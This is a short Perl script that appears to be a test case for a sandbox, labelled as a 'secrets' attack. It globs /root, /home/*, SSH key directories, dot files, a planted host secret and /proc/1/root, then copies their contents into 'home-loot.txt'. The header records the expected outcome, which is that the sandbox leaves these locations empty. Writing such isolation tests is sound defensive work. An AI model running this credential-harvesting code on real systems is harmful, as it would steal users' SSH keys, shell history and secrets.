# attack: Perl globs the host home (/root, /home/*), reads dot files and the planted home secret, ssh keys and shell history, and copies them into the workspace
# category: secrets
# effect: the secret planted in the host's home appears nowhere in the workspace or the output
# via: /root and /home are empty in the sandbox
use strict; use warnings;
chdir $ENV{RT_WS};
open(my $out, '>', "home-loot.txt") or die;
for my $f (glob("/root/.* /root/* /root/.ssh/* /home/*/.* /home/*/* $ENV{RT_HOST_SECRET} /proc/1/root/root/.*")) {
	next if -d $f;
	if (open(my $in, '<', $f)) { local $/; my $c = <$in>; print $out "== $f\n$c\n"; print "read $f\n" }
}
